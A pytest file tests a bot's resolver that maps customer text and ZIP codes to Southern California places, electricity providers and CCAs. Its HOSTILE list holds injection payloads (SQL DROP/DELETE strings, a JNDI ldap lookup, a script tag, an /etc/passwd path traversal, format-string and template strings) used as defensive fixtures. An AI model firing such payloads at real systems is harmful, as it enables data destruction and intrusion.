"""Resolving what a customer typed to a place (and its service status) or to a CCA."""

from __future__ import annotations

import datetime as dt

import pytest
from sqlalchemy import func, select

from bot import db
from bot.models import Place
from bot.places import Problem, resolve_cca, resolve_party, resolve_place

CPA = "Clean Power Alliance of Southern California"
OCPA = "Orange County Power Authority"
WCE = "Western Community Energy"
THREE_CE = "Central Coast Community Energy"


def _cca_name(table, match) -> str | None:
    key = match.service.party_key if match.service else None
    return table.parties[key].name if key else None


# --- finding the place --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text,expected",
    [
        # exact, case- and accent-insensitive
        ("Santa Monica", "Santa Monica"),
        ("SANTA MONICA", "Santa Monica"),
        ("  santa monica  ", "Santa Monica"),
        ("La Cañada Flintridge", "La Cañada Flintridge"),
        ("la canada flintridge", "La Cañada Flintridge"),
        ("LA CAÑADA-FLINTRIDGE", "La Cañada Flintridge"),
        # aliases
        ("San Buenaventura", "Ventura"),
        ("City of Ventura", "Ventura"),
        ("Town of Apple Valley", "Apple Valley"),
        ("WeHo", "West Hollywood"),
        ("City of Isla Vista", "Isla Vista"),
        ("LA", "Los Angeles"),
        ("L.A.", "Los Angeles"),
        # a known name inside a phrase
        ("I live in Irvine", "Irvine"),
        ("we're in Huntington Beach, near the pier", "Huntington Beach"),
        ("my house is in unincorporated Ventura County", "Unincorporated Ventura County"),
        ("I live in LA", "Los Angeles"),
        # accents optional
        ("Santa Mónica", "Santa Monica"),
        ("SANTA MÓNICA", "Santa Monica"),
        # communities and neighbourhoods are their own places
        ("Altadena", "Altadena"),
        ("North Hollywood", "North Hollywood"),
        ("I live in North Hollywood", "North Hollywood"),
        ("West Hollywood", "West Hollywood"),
        ("Hollywood", "Hollywood"),
        ("Westlake", "Westlake"),
        ("Westlake Village", "Westlake Village"),
        ("unincorporated LA County", "Unincorporated Los Angeles County"),
        ("Idyllwild", "Idyllwild-Pine Cove"),
        # everyday words: alone, or capitalised in a phrase
        ("orange", "Orange"),
        ("I live in Orange", "Orange"),
        ("we're in Watts", "Watts"),
        # near neighbours stay apart
        ("santa ana", "Santa Ana"),
        ("santa paula", "Santa Paula"),
        ("Palm Desert", "Palm Desert"),
        ("Palm Springs", "Palm Springs"),
        ("Pasadena", "Pasadena"),
        ("South Pasadena", "South Pasadena"),
    ],
)
def test_resolve_place_finds_the_canonical_place(shared_table, text, expected):
    match = resolve_place(text, table=shared_table)
    assert match.known, f"{text!r} not resolved (suggestions {match.suggestions})"
    assert match.place.name == expected
    assert 0.0 < match.confidence <= 1.0


def test_exact_match_is_more_confident_than_a_phrase_or_a_zip(shared_table):
    exact = resolve_place("Irvine", table=shared_table).confidence
    phrase = resolve_place("I live in Irvine", table=shared_table).confidence
    by_zip = resolve_place("92618", table=shared_table)
    assert by_zip.place.name == "Irvine"
    assert exact == 1.0 and exact > phrase > by_zip.confidence > 0


@pytest.mark.parametrize(
    "text,suggestion",
    [
        ("santa monca", "Santa Monica"),
        ("fullertn", "Fullerton"),
        ("Irvin", "Irvine"),
        ("I live in Lancastr", "Lancaster"),
        ("Westlake Vilage", "Westlake Village"),
        ("Altadina", "Altadena"),
        ("Cañada Flintridge", "La Cañada Flintridge"),
    ],
)
def test_a_misspelling_is_suggested_never_applied(shared_table, text, suggestion):
    match = resolve_place(text, table=shared_table)
    assert match.place is None and not match.known and match.status == "unknown" and match.confidence == 0.0
    assert (match.problem, match.suggestion) == (Problem.SUGGESTION, suggestion)
    assert match.suggestions[0] == suggestion


@pytest.mark.parametrize("text", ["how many watts does my fridge use", "I ate an orange", "corona relief", "banning"])
def test_everyday_words_are_not_places_inside_a_sentence(shared_table, text):
    match = resolve_place(text, table=shared_table)
    if text == "banning":  # alone it is the answer to "which city?"
        assert match.place.name == "Banning"
    else:
        assert match.place is None and match.suggestion is None


# --- regions: a county alone asks for the city -------------------------------------------------


@pytest.mark.parametrize(
    "text,region",
    [
        ("Orange County", "Orange County"),
        ("I live in Orange County", "Orange County"),
        ("OC", "Orange County"),
        ("LA County", "Los Angeles County"),
        ("Los Angeles County", "Los Angeles County"),
        ("Riverside County", "Riverside County"),
        ("unincorporated Riverside County", "Riverside County"),
        ("I'm in unincorporated Riverside County", "Riverside County"),
        ("Santa Barbara County", "Santa Barbara County"),
        ("Ventura County", "Ventura County"),
    ],
)
def test_a_county_alone_is_a_region_not_a_place(shared_table, text, region):
    match = resolve_place(text, table=shared_table)
    assert match.place is None and match.problem == Problem.REGION
    assert match.region.name == region and match.region.note


@pytest.mark.parametrize(
    "text,place",
    [
        ("unincorporated Orange County", "Unincorporated Orange County"),
        ("unincorporated Ventura County", "Unincorporated Ventura County"),
        ("Unincorporated Los Angeles County", "Unincorporated Los Angeles County"),
        ("Coto de Caza", "Unincorporated Orange County"),
        ("Orange", "Orange"),
    ],
)
def test_unincorporated_areas_and_cities_are_not_regions(shared_table, text, place):
    assert resolve_place(text, table=shared_table).place.name == place


# --- ZIP codes -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text,place",
    [
        ("90401", "Santa Monica"),
        ("my zip is 91601", "North Hollywood"),
        ("91001", "Altadena"),
        ("92260", "Palm Desert"),
        ("92618-1234", "Irvine"),
        ("93013", "Carpinteria"),
    ],
)
def test_zip_code_resolves_offline_to_its_city(shared_table, text, place):
    match = resolve_place(text, table=shared_table)
    assert match.place.name == place and match.zip_code == text.split()[-1][:5]


@pytest.mark.parametrize(
    "text,suggestions",
    [
        ("93455", ["Orcutt"]),  # Santa Maria, not a place we know; Orcutt shares the ZIP
        ("90022", ["Los Angeles", "Commerce"]),  # LADWP and SCE share it: ask
    ],
)
def test_zip_code_shared_by_differently_served_places_is_a_question(shared_table, text, suggestions):
    match = resolve_place(text, table=shared_table)
    assert match.place is None and match.problem == Problem.SUGGESTION
    assert list(match.suggestions) == suggestions and match.suggestion == suggestions[0]


@pytest.mark.parametrize("text,problem", [("10001", Problem.ZIP_OUTSIDE), ("00000", Problem.NOT_FOUND)])
def test_zip_code_outside_california_or_unknown(shared_table, text, problem):
    match = resolve_place(text, table=shared_table)
    assert match.place is None and match.problem == problem and match.zip_code == text


@pytest.mark.parametrize("text", ["la", "hb", "oc", "I live in la la land"])
def test_short_aliases_only_count_in_capitals(shared_table, text):
    assert not resolve_place(text, table=shared_table).known


# --- status by place type -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "text,status,provider",
    [
        # CPA, many cities and two counties
        ("Santa Monica", "cca", CPA),
        ("Thousand Oaks", "cca", CPA),
        ("Unincorporated Los Angeles County", "cca", CPA),
        # single-city CCAs
        ("Lancaster", "cca", "Lancaster Choice Energy"),
        ("Pomona", "cca", "Pomona Choice Energy"),
        ("Palm Springs", "cca", "Desert Community Energy"),
        ("Rancho Mirage", "cca", "Rancho Mirage Energy Authority"),
        ("Santa Barbara", "cca", "Santa Barbara Clean Energy"),
        ("Pico Rivera", "cca", "Pico Rivera Innovative Municipal Energy"),
        ("San Jacinto", "cca", "San Jacinto Power"),
        ("Apple Valley", "cca", "Apple Valley Choice Energy"),
        ("Palmdale", "cca", "Energy for Palmdale's Independent Choice"),
        ("Baldwin Park", "cca", "Baldwin Park Resident Owned Utility District"),
        # OCPA members and former members
        ("Irvine", "cca", OCPA),
        ("Fullerton", "cca", OCPA),
        ("Buena Park", "cca", OCPA),
        ("Huntington Beach", "bundled", "Southern California Edison"),
        ("Lake Forest", "bundled", "Southern California Edison"),
        # Western Community Energy's former cities
        ("Norco", "bundled", "Southern California Edison"),
        ("Perris", "bundled", "Southern California Edison"),
        ("Hemet", "bundled", "Southern California Edison"),
        ("Eastvale", "bundled", "Southern California Edison"),
        ("Jurupa Valley", "bundled", "Southern California Edison"),
        ("Wildomar", "bundled", "Southern California Edison"),
        # never in a CCA
        ("Long Beach", "bundled", "Southern California Edison"),
        ("Palm Desert", "bundled", "Southern California Edison"),
        # approved to join, not yet served
        ("Fountain Valley", "pending_cca", OCPA),
        ("Fillmore", "pending_cca", CPA),
        # unincorporated communities
        ("Isla Vista", "cca", THREE_CE),
        ("Montecito", "cca", THREE_CE),
        ("unincorporated Ventura County", "cca", CPA),
        ("Coto de Caza", "bundled", "Southern California Edison"),
        # not SCE territory
        ("Los Angeles", "other_utility", None),
        ("Pasadena", "other_utility", None),
        ("Burbank", "other_utility", None),
        ("Glendale", "other_utility", None),
        ("Riverside", "other_utility", None),
    ],
)
def test_place_status_today(shared_table, text, status, provider):
    match = resolve_place(text, table=shared_table)
    assert (match.status, _cca_name(shared_table, match)) == (status, provider)


@pytest.mark.parametrize("city", ["Los Angeles", "Pasadena", "Burbank", "Glendale", "Riverside"])
def test_non_sce_city_names_its_own_utility(shared_table, city):
    match = resolve_place(city, table=shared_table)
    utility = shared_table.parties[match.service.delivered_by]
    assert utility.kind == "UTILITY" and city in utility.name


@pytest.mark.parametrize(
    "text,status,cca,delivered_by",
    [
        ("North Hollywood", "other_utility", None, "ladwp"),
        ("Altadena", "cca", "cpa", "sce"),
        ("Orcutt", "cca", "3ce", "pge"),
        ("Goleta", "cca", "3ce", "sce"),
        ("Anaheim", "other_utility", None, "anaheim_utility"),
        ("Big Bear Lake", "other_utility", None, "bves"),
        ("Dana Point", "other_utility", None, "sdge"),
    ],
)
def test_a_place_says_who_supplies_and_who_delivers(shared_table, text, status, cca, delivered_by):
    service = resolve_place(text, table=shared_table).service
    assert (service.status, service.party_key, service.delivered_by) == (status, cca, delivered_by)


@pytest.mark.parametrize(
    "text,on,status,provider",
    [
        ("Huntington Beach", dt.date(2023, 1, 1), "cca", OCPA),
        ("Huntington Beach", dt.date(2024, 6, 30), "cca", OCPA),
        ("Huntington Beach", dt.date(2024, 7, 1), "bundled", "Southern California Edison"),
        ("Norco", dt.date(2021, 1, 1), "cca", WCE),
        ("Perris", dt.date(2021, 1, 1), "cca", WCE),
        ("Hemet", dt.date(2021, 1, 1), "cca", WCE),
        ("Norco", dt.date(2021, 6, 15), "bundled", "Southern California Edison"),
        ("Hermosa Beach", dt.date(2024, 2, 1), "unknown", None),
        ("Hermosa Beach", dt.date(2024, 3, 1), "cca", CPA),
    ],
)
def test_place_status_on_a_date(shared_table, text, on, status, provider):
    match = resolve_place(text, on=on, table=shared_table)
    assert (match.status, _cca_name(shared_table, match)) == (status, provider)


# --- unknown and hostile input ------------------------------------------------------------------

HOSTILE = [
    pytest.param("", id="empty"),
    pytest.param("   \t\n ", id="whitespace"),
    pytest.param("x" * 10_240, id="10KB"),
    pytest.param("Irvine " * 1500, id="10KB-of-a-real-city"),
    pytest.param("'; DROP TABLE places;--", id="sql-injection"),
    pytest.param("Robert'); DELETE FROM places WHERE ('1'='1", id="sql-injection-2"),
    pytest.param("{{7*7}}", id="template"),
    pytest.param("${jndi:ldap://example.com/a}", id="jndi"),
    pytest.param("<script>alert(1)</script>", id="script"),
    pytest.param("\x00", id="nul"),
    pytest.param("abc\x00def", id="embedded-nul"),
    pytest.param("\x01\x02\x1b[2J\x7f", id="control-chars"),
    pytest.param("⚡🏠🔌", id="emoji"),
    pytest.param("مدينة الملائكة", id="rtl-arabic"),
    pytest.param("\u202eenivrI", id="rtl-override"),
    pytest.param("עיר", id="rtl-hebrew"),
    pytest.param("%s%s%s%n", id="format-string"),
    pytest.param("../../etc/passwd", id="path"),
]


@pytest.mark.parametrize("text", ["Springfield", "Atlantis", "Gotham City", "Narnia", "Metropolis"])
def test_unknown_place_is_reported_not_guessed(shared_table, text):
    match = resolve_place(text, table=shared_table)
    assert match.place is None
    assert (match.status, match.confidence, match.problem) == ("unknown", 0.0, "not_found")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_input_is_unknown_without_error(shared_table, text):
    match = resolve_place(text, table=shared_table)
    assert match.place is None and match.status == "unknown" and match.confidence == 0.0
    assert match.problem in {"empty", "too_long", "not_found"}
    assert len(match.query) <= 201  # long input is never carried around whole
    assert resolve_cca(text, table=shared_table) is None


@pytest.mark.parametrize(
    "text,problem", [("", "empty"), ("  ", "empty"), pytest.param("x" * 10_240, "too_long", id="10KB")]
)
def test_problem_says_why_nothing_was_found(shared_table, text, problem):
    assert resolve_place(text, table=shared_table).problem == problem


def test_hostile_input_through_the_database_leaves_the_places_table_intact(db_url):
    """Without an explicit table the resolver reads the live role table (DATABASE_URL)."""
    with db.session_factory(db_url).begin() as session:
        before = session.scalar(select(func.count()).select_from(Place))
    for param in HOSTILE:
        (text,) = param.values
        assert isinstance(text, str)
        assert not resolve_place(text).known
        assert resolve_cca(text) is None
    db.reset()
    with db.session_factory(db_url).begin() as session:
        assert session.scalar(select(func.count()).select_from(Place)) == before > 0
        assert session.scalar(select(Place.name).where(Place.name == "Irvine")) == "Irvine"
    assert resolve_place("Irvine").status == "cca"


@pytest.mark.parametrize(
    "text,suggested",
    [
        ("Huntingdon Park", "Huntington Beach"),
        ("Palm Sprngs Villge", "Palm Springs"),
    ],
)
def test_near_miss_comes_with_suggestions_but_no_answer(shared_table, text, suggested):
    match = resolve_place(text, table=shared_table)
    assert not match.known and match.status == "unknown" and match.confidence == 0.0
    assert suggested in match.suggestions


@pytest.mark.parametrize("text", ["North Hollywood", "north hollywood", "I live in North Hollywood", "91601"])
def test_north_hollywood_is_never_west_hollywood(shared_table, text):
    match = resolve_place(text, table=shared_table)
    assert match.place.name == "North Hollywood" and match.service.delivered_by == "ladwp"


@pytest.mark.parametrize(
    "text,not_this",
    [
        ("unincorporated Riverside County", "Riverside"),  # a region: never the City of Riverside's utility
        ("Riverside County", "Riverside"),
        ("North Hollywood", "West Hollywood"),
        ("Santa Barbara County", "Santa Barbara"),  # county areas are 3CE, the city is SBCE
        ("East Los Angeles", "Los Angeles"),  # unincorporated LA County (SCE), resolved as the City of LA
        ("East Pasadena", "Pasadena"),  # unincorporated LA County (SCE), resolved as Pasadena
    ],
)
def test_a_different_place_containing_a_city_name_is_not_taken_for_that_city(shared_table, text, not_this):
    match = resolve_place(text, table=shared_table)
    assert match.place is None or match.place.name != not_this


# --- CCAs ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text,expected",
    [
        ("OCPA", OCPA),
        ("ocpa", OCPA),
        ("Orange County Power Authority", OCPA),
        ("OC Power", OCPA),
        ("clean power alliance", CPA),
        ("Clean Power Alliance of Southern California", CPA),
        ("CPA", CPA),
        ("3CE", THREE_CE),
        ("Monterey Bay Community Power", THREE_CE),
        ("Lancaster Energy", "Lancaster Choice Energy"),
        ("LCE", "Lancaster Choice Energy"),
        ("Desert Community Energy", "Desert Community Energy"),
        ("Pomona Choice Energy", "Pomona Choice Energy"),
        ("PRIME", "Pico Rivera Innovative Municipal Energy"),
        ("Pico Rivera Innovation Municipal Energy", "Pico Rivera Innovative Municipal Energy"),
        ("Western Community Energy", WCE),
        ("I'm a customer of Clean Power Alliance", CPA),
        ("Santa Barbra Clean Energy", "Santa Barbara Clean Energy"),
    ],
)
def test_resolve_cca(shared_table, text, expected):
    party = resolve_cca(text, table=shared_table)
    assert party is not None and party.name == expected and party.kind == "CCA"


@pytest.mark.parametrize(
    "text",
    [
        "Southern California Edison",
        "SCE",
        "CAISO",
        "CPUC",
        "Irvine",
        "Acme Power",
        "",
        pytest.param("x" * 10_240, id="10KB"),
    ],
)
def test_resolve_cca_rejects_non_ccas(shared_table, text):
    assert resolve_cca(text, table=shared_table) is None


@pytest.mark.parametrize(
    "text,key",
    [("PG&E", "pge"), ("LADWP", "ladwp"), ("Edison", "sce"), ("the CPUC", "cpuc"), ("BVES", "bves"), ("OCPA", "ocpa")],
)
def test_resolve_party_finds_any_party_for_a_person_at_x(shared_table, text, key):
    assert resolve_party(text, table=shared_table).key == key


@pytest.mark.parametrize("text", ["", "Acme Power", pytest.param("x" * 10_240, id="10KB")])
def test_resolve_party_rejects_unknown_names(shared_table, text):
    assert resolve_party(text, table=shared_table) is None
